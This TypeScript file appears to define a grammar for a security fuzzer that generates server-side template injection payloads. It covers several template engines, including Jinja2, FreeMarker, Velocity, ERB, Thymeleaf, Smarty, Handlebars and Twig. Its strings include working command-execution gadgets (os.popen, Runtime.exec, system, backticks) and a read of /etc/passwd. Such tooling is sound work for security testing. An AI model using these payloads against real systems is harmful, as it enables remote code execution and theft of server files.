import type { Grammar } from '../grammar.ts';
import { words } from '../words.ts';

/** Server-side template injection (CWE-1336). */
export const ssti: Grammar = {
  ...words,
  start: [
    '{{<expression>}}',
    '${<expression>}',
    '<<%= <erb> %>',
    '#{<expression>}',
    '*{<java>}',
    '{%<space>for x in <python> %}{{x}}{% endfor %}',
    '<<#assign x="freemarker.template.utility.Execute"?new()>${x("<ident>")}',
    '#set($x="")$x.class.forName("java.lang.Runtime")',
    '{php}echo `<ident>`;{/php}',
    '@(<number>*<number>)',
    '{{#with "s" as |<ident>|}}{{lookup this "constructor"}}{{/with}}',
    '[[${<java>}]]',
  ],
  expression: [
    '<number>*<number>',
    "<number>*'<number>'",
    '<python>',
    '<java>',
    'config.items()',
    'self._TemplateReference__context',
    "request|attr('application')",
    '_self.env.display("<ident>")',
    'range.constructor("return process")()',
    "['<ident>']|filter('system')",
    'dump(app)',
  ],
  python: [
    "''.__class__.__mro__[<digit>].__subclasses__()",
    'cycler.__init__.__globals__.os.popen("<ident>").read()',
    "lipsum.__globals__['os'].popen('<ident>')",
  ],
  java: [
    'T(java.lang.Runtime).getRuntime().exec("<ident>")',
    '"".getClass().forName("java.lang.Runtime")',
    'new java.util.Scanner(<ident>)',
  ],
  erb: [
    '<number> * <number>',
    'system("<ident>")',
    "File.open('/etc/passwd').read",
    'IO.popen("<ident>").readlines()',
    '`<ident>`',
  ],
};
